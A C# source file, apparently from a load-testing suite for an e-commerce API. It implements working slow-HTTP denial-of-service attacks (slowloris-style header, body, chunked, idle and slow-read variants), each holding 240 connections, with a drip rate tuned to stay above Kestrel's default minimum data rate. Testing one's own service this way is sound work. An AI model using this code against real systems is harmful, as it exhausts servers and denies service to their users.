using System.Text;

namespace ECommerce.Siege.Attacks;

/// <summary>Connections that take the host's places and give nothing, or next to nothing, back. Each one that ends is opened again.</summary>
internal static class Slow
{
    private const int Connections = 240;
    private const int Drip = 75;
    private const int PipelinedReads = 100;

    // 75 bytes each quarter of a second are 300 bytes a second: above the minimum rate of 240 that Kestrel has by default.
    private static readonly TimeSpan Beat = TimeSpan.FromMilliseconds(250);
    private static readonly TimeSpan Reopen = TimeSpan.FromSeconds(1);

    private static readonly byte[] BodyPart = new byte[Drip].Select(_ => (byte)' ').ToArray();
    private static readonly byte[] ChunkPart = Ascii($"45\r\n{new string(' ', 0x45)}\r\n");
    private static readonly byte[] HeaderPart = Ascii($"X-Slow: {new string('x', Drip - 10)}\r\n");

    public static readonly Attack Bodies = new("slow-bodies", $"{Connections} connections drip the body of a login at 300 bytes a second.",
        (attacker, ct) => HoldAsync(attacker, Login(attacker, "Content-Length: 100000"), BodyPart, ct));

    public static readonly Attack Chunks = new("slow-chunks", $"{Connections} connections drip a chunked body at 300 bytes a second.",
        (attacker, ct) => HoldAsync(attacker, Login(attacker, "Transfer-Encoding: chunked"), ChunkPart, ct));

    public static readonly Attack Headers = new("slow-headers", $"{Connections} connections drip headers that never end.",
        (attacker, ct) => HoldAsync(attacker, Ascii($"GET /api/products HTTP/1.1\r\nHost: {attacker.Authority}\r\n"), HeaderPart, ct));

    public static readonly Attack Idle = new("slow-idle", $"{Connections} connections send nothing.",
        (attacker, ct) => HoldAsync(attacker, first: [], part: [], ct));

    public static readonly Attack Readers = new("slow-readers", $"{Connections} connections ask for {PipelinedReads} pages of 100 products each and read 300 bytes a second.",
        (attacker, ct) => EachAsync(attacker, ReadSlowlyAsync, ct));

    private static Task HoldAsync(Attacker attacker, byte[] first, byte[] part, CancellationToken ct) =>
        EachAsync(attacker, (_, line, until) => DripAsync(line, first, part, until), ct);

    private static Task EachAsync(Attacker attacker, Func<Attacker, Line, CancellationToken, Task> hold, CancellationToken ct) =>
        Task.WhenAll(Enumerable.Range(0, Connections).Select(_ => KeepOpenAsync(attacker, hold, ct)));

    private static async Task KeepOpenAsync(Attacker attacker, Func<Attacker, Line, CancellationToken, Task> hold, CancellationToken ct)
    {
        for (; ; await Task.Delay(Reopen, ct))
        {
            using var line = await attacker.ConnectAsync(ct, receiveBuffer: 2048);
            if (line is not null)
                await hold(attacker, line, ct);
        }
    }

    /// <summary>Drips until the shop answers or closes the connection.</summary>
    private static async Task DripAsync(Line line, byte[] first, byte[] part, CancellationToken ct)
    {
        var answer = line.ReadAsync(ct);
        var isOpen = await line.SendAsync(first, first.Length > 0 ? 1 : 0, ct);
        while (isOpen && await Task.WhenAny(answer, Task.Delay(Beat, ct)) != answer)
        {
            ct.ThrowIfCancellationRequested();
            isOpen = part.Length == 0 || await line.SendAsync(part, 0, ct);
        }

        await answer;
    }

    private static async Task ReadSlowlyAsync(Attacker attacker, Line line, CancellationToken ct)
    {
        var request = $"GET /api/products?limit=100 HTTP/1.1\r\nHost: {attacker.Authority}\r\n\r\n";
        var sending = line.SendAsync(Ascii(string.Concat(Enumerable.Repeat(request, PipelinedReads))), PipelinedReads, ct);
        while (await line.ReadAsync(ct, Drip) is not null)
            await Task.Delay(Beat, ct);
        await sending;
    }

    private static byte[] Login(Attacker attacker, string length) =>
        Ascii($"POST /api/users/login HTTP/1.1\r\nHost: {attacker.Authority}\r\nContent-Type: application/json\r\n{length}\r\n\r\n");

    private static byte[] Ascii(string text) => Encoding.ASCII.GetBytes(text);
}
